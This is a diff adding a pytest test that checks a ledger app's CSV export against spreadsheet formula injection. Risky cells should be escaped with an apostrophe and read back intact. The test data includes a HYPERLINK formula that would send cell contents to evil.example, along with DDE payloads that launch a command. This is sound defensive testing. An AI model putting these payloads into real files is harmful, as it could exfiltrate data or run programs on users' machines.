@@ -1,5 +1,7 @@
 """Export and import: CSV and JSON round trips on real SQLite, Excel's encodings, no passwords."""
 
+import csv
+import io
 import json
 from collections.abc import Iterator
 from pathlib import Path
@@ -195,3 +197,27 @@ def test_unknown_headings_and_undecodable_files_are_refused() -> None:
         csvtext.decode(b"\x82\xa0\xff\xfe\x81", "a.csv")
     with pytest.raises(LedgerError, match="not a book"):
         transfer.from_json('{"schema": "other"}', "x.json")
+
+
+@pytest.mark.parametrize(
+    ("typed", "written"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK"),
+        ("@SUM(1+1)", "'@SUM"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3"),
+        ("+cmd|' /C calc'!A0", "'+cmd"),
+        ("\t=1", "'\t=1"),
+        ("'=1", "''=1"),
+        ("+81 3-1234-5678", "+81 3-1234-5678"),  # a telephone number stays as typed
+        ("-5", "-5"),
+        ("営業部 = 3 人", "営業部 = 3 人"),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_read_back(typed: str, written: str) -> None:
+    text = csvtext.write_rows(CONTACTS, [{"name": typed}])
+    heading, row = (
+        next(csv.reader(io.StringIO(text))),
+        next(itertools.islice(csv.reader(io.StringIO(text)), 1, 2)),
+    )
+    assert row[heading.index("name")].startswith(written)
+    assert csvtext.read_rows(text, CONTACTS, "contacts.csv")[0]["name"] == typed
